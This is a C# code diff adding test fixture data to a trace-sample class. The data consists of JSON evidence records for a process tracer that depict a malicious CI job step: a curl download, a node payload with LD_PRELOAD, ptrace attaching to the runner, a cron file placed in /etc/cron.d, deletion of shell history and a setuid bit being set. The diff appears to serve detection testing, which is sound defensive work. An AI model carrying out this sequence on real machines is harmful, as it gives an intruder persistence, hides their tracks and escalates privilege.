@@ -83,6 +83,39 @@ public static class SampleTrace
         return records;
     }
 
+    /// <summary>
+    /// The tracer's evidence records, as JSON lines (the contract fixes their shape): <c>--pid</c> of a running worker
+    /// (1200) whose step shell (1300) was running too (snapshot execs), a subshell (1310) that never exec'd and runs
+    /// curl (1311) and a node payload (1312) started with LD_PRELOAD, which attaches to the worker, renames a cron
+    /// entry into place, deletes the shell history and sets a setuid bit.
+    /// </summary>
+    public static IReadOnlyList<string> EvidenceLines() =>
+    [
+        """{"type":"trace_meta","timestamp":"2026-11-20T10:00:00.000000Z","tracer_version":"0.1.0","kernel":"6.18.0","hostname":"runner-1","scope":"pid"}""",
+        """{"type":"process_exec","timestamp":"2026-11-20T10:00:00.000000Z","pid":1200,"ppid":1100,"comm":"Runner.Worker","filename":"/home/runner/bin/Runner.Worker","args":["/home/runner/bin/Runner.Worker","spawnclient","107","110"],"exe":"/home/runner/bin/Runner.Worker","snapshot":true}""",
+        """{"type":"process_exec","timestamp":"2026-11-20T10:00:00.000000Z","pid":1300,"ppid":1200,"comm":"bash","filename":"/usr/bin/bash","args":["/usr/bin/bash","-e","/home/runner/work/_temp/step.sh"],"exe":"/usr/bin/bash","snapshot":true}""",
+        """{"type":"process_fork","timestamp":"2026-11-20T10:00:01.000000Z","pid":1310,"ppid":1300,"comm":"bash"}""",
+        """{"type":"process_exec","timestamp":"2026-11-20T10:00:01.100000Z","pid":1311,"ppid":1310,"comm":"curl","filename":"/usr/bin/curl","args":["curl","-so","/tmp/x/job","https://example.org/job"]}""",
+        """{"type":"process_exec","timestamp":"2026-11-20T10:00:02.000000Z","pid":1312,"ppid":1310,"comm":"node","filename":"/usr/bin/node","args":["node","payload.js"],"env":{"LD_PRELOAD":"/tmp/x/hook.so"}}""",
+        """{"type":"process_access","timestamp":"2026-11-20T10:00:03.000000Z","pid":1312,"ppid":1310,"comm":"node","target_pid":1200,"target_comm":"Runner.Worker","method":"ptrace_attach","target_relation":"other","target_ppid":1100}""",
+        """{"type":"file_rename","timestamp":"2026-11-20T10:00:04.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/tmp/x/job","new_path":"/etc/cron.d/job"}""",
+        """{"type":"file_delete","timestamp":"2026-11-20T10:00:05.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/home/runner/.bash_history"}""",
+        """{"type":"file_chmod","timestamp":"2026-11-20T10:00:06.000000Z","pid":1312,"ppid":1310,"comm":"node","path":"/tmp/x/sh","mode":"4755"}""",
+        // Its parent gone, the payload is adopted by init: it still belongs under the subshell.
+        """{"type":"file_open","timestamp":"2026-11-20T10:00:07.000000Z","pid":1312,"ppid":1,"comm":"node","path":"/home/runner/work/app/package.json","flags":"O_RDONLY"}""",
+    ];
+
+    /// <summary>Trace lines as the console stores them: one gzip member.</summary>
+    public static byte[] GzipLines(IEnumerable<string> lines)
+    {
+        var stream = new MemoryStream();
+        using (var gzip = new System.IO.Compression.GZipStream(stream, System.IO.Compression.CompressionLevel.Fastest, leaveOpen: true))
+        {
+            gzip.Write(System.Text.Encoding.UTF8.GetBytes(string.Concat(lines.Select(l => l + "\n"))));
+        }
+        return stream.ToArray();
+    }
+
     public static byte[] Gzip(IEnumerable<TraceRecord> records)
     {
         var stream = new MemoryStream();
